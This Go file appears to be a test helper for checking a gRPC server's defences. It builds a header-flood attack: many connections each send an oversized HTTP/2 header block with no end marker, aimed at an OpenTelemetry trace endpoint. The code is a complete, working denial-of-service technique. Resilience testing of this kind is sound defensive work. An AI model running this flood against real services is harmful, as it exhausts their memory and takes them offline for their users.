package hostile

import (
	"bytes"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// grpcHeaderFlood opens conns connections to a gRPC listener and on each
// starts one call whose metadata is size bytes, written with a raw HTTP/2
// framer (a gRPC client refuses to send past the bound the server
// advertises) and never finished: no END_HEADERS, so a server without its
// own bound keeps decoding and holding every field it was sent. It waits
// hold, then reports how many connections the server closed meanwhile.
func grpcHeaderFlood(addr string, conns, size int, hold time.Duration) (closed, open int, err error) {
	var (
		mu       sync.Mutex
		firstErr error
		wg       sync.WaitGroup
		cs       []net.Conn
		gone     = make(chan struct{}, conns)
	)
	block := headerBlock(addr, size)
	defer func() {
		for _, c := range cs {
			_ = c.Close()
		}
	}()
	for i := 0; i < conns; i++ {
		c, derr := net.Dial("tcp", addr)
		if derr != nil {
			return 0, 0, derr
		}
		// A server that stops reading without closing cannot hang the
		// test.
		_ = c.SetDeadline(time.Now().Add(hold + 30*time.Second))
		cs = append(cs, c)
		wg.Add(1)
		go func(c net.Conn) {
			defer wg.Done()
			// Read whatever the server sends until it closes the
			// connection or the test does.
			go func() {
				_, _ = io.Copy(io.Discard, c)
				gone <- struct{}{}
			}()
			if werr := writeHeld(c, block); werr != nil && !isClosed(werr) {
				mu.Lock()
				if firstErr == nil {
					firstErr = werr
				}
				mu.Unlock()
			}
		}(c)
	}
	wg.Wait()
	deadline := time.After(hold)
wait:
	for closed < conns {
		select {
		case <-gone:
			closed++
		case <-deadline:
			break wait
		}
	}
	return closed, conns - closed, firstErr
}

// headerBlock is an HPACK block of a gRPC call's request headers and size
// bytes of extra metadata, in 1000-byte values.
func headerBlock(addr string, size int) []byte {
	var b bytes.Buffer
	enc := hpack.NewEncoder(&b)
	for _, f := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":authority", addr},
		{":path", "/opentelemetry.proto.collector.trace.v1.TraceService/Export"},
		{"content-type", "application/grpc"}, {"te", "trailers"}} {
		_ = enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	value := strings.Repeat("v", 1000)
	for i := 0; i*1000 < size; i++ {
		_ = enc.WriteField(hpack.HeaderField{Name: fmt.Sprintf("x-pad-%d", i), Value: value})
	}
	return b.Bytes()
}

// writeHeld writes the client preface, its settings, and block as stream
// 1's HEADERS and CONTINUATION frames, all but the end: END_HEADERS is
// never sent.
func writeHeld(c net.Conn, block []byte) error {
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		return err
	}
	fr := http2.NewFramer(c, nil)
	if err := fr.WriteSettings(); err != nil {
		return err
	}
	const frame = 16 << 10 // the default SETTINGS_MAX_FRAME_SIZE
	first := block[:min(frame, len(block))]
	if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: first}); err != nil {
		return err
	}
	for rest := block[len(first):]; len(rest) > 0; {
		n := min(frame, len(rest))
		if err := fr.WriteContinuation(1, false, rest[:n]); err != nil {
			return err
		}
		rest = rest[n:]
	}
	return nil
}

func isClosed(err error) bool {
	return err == io.EOF || strings.Contains(err.Error(), "connection reset") || strings.Contains(err.Error(), "broken pipe") ||
		strings.Contains(err.Error(), "use of closed")
}
